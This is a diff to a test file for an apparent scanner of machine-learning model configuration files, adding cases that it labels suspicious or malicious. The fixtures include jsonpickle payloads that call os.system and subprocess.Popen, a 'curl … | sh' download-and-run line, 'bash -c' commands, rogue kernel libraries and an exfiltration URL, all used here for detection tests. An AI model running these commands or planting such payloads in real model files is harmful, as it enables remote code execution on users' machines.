@@ -56,6 +56,8 @@ describe("configurations in JSON", () => {
     ["a pipeline of its own", { _class_name: ["pipeline_x", "Pipe"], _diffusers_version: "0.30" }, "model_index.json"],
     ["a part of its own", { _class_name: "Pipe", unet: ["unet_x", "UNet"] }, "model_index.json"],
     ["a module of its own", [{ idx: 0, name: "0", path: "", type: "custom_st.Transformer" }], "modules.json"],
+    ["a kernel", { ...LLAMA, _attn_implementation: "someone/flash-kernel" }, "config.json"],
+    ["a core to import", { peft_type: "LORA", megatron_core: "evil.core" }, "adapter_config.json"],
     ["a library to import", { peft_type: "LORA", auto_mapping: { base_model_class: "x", parent_library: "os" } }, "adapter_config.json"],
   ])("are suspicious by code of the model: %s", async (_, content, name) => {
     expect(await inspect(content, name)).toMatchObject({ verdict: "suspicious", findings: [{ rule: "remote-code" }] });
@@ -70,6 +72,8 @@ describe("configurations in JSON", () => {
     ["sentence-transformers", [{ idx: 0, name: "0", path: "", type: "sentence_transformers.models.Transformer" }], "modules.json"],
     ["an adapter", { peft_type: "LORA", auto_mapping: null, base_model_name_or_path: "org/base" }, "adapter_config.json"],
     ["an adapter of transformers", { peft_type: "LORA", auto_mapping: { base_model_class: "Bert", parent_library: "transformers.models.bert" } }, "adapter_config.json"],
+    ["an activation", { in_features: 4, activation_function: "torch.nn.modules.activation.Tanh", _attn_implementation: "sdpa", megatron_core: "megatron.core" }, "config.json"],
+    ["an activation by its name", { ...LLAMA, activation_function: "gelu_new", target: "production" }, "config.json"],
     ["no remote code", { ...LLAMA, trust_remote_code: false, custom_generate: "" }, "config.json"],
     ["special tokens", { pad_token: "<pad>", bos_token: { content: "<s>" }, tokenizer_class: "X", model_max_length: 1e30 }, "tokenizer_config.json"],
     ["links", { ...LLAMA, license_link: "http://www.apache.org/licenses/LICENSE-2.0", homepage: "http://some.lab.edu/model", url: "https://huggingface.co/x" }, "config.json"],
@@ -88,6 +92,8 @@ describe("configurations in JSON", () => {
     ["jsonpickle", { "py/reduce": [{ "py/function": "os.system" }, { "py/tuple": ["id"] }] }, "x.json"],
     ["jsonpickle's objects", { a: { "py/object": "subprocess.Popen" } }, "x.json"],
     ["jsonpickle's repr", { a: { "py/repr": "os/os.getcwd()" } }, "x.json"],
+    ["an activation", { in_features: 4, activation_function: "os.system" }, "config.json"],
+    ["a target alone", { target: "os.system" }, "x.json"],
     ["class_path", { model: { class_path: "os.system", init_args: {} } }, "x.json"],
   ])("are malicious by what is called: %s", async (_, content, name) => expect(await ruleOf(content, name)).toBe("config-code-execution"));
   it.each<[string, unknown, string, string]>([
@@ -219,6 +225,7 @@ describe("suspiciousValue", () => {
     ["post_install", "curl http://x.example.net/a | sh"],
     ["anything", "bash -c 'id'"],
     ["kernel", "/opt/lib/evil.so.1"],
+    ["custom_ops_library", "evil.dll"],
     ["url", "https://x.org/exfil?d=1"],
   ])("%s: %s", (key, value) => expect(suspiciousValue(key, value)).toBeDefined());
   it.each<[string, string]>([
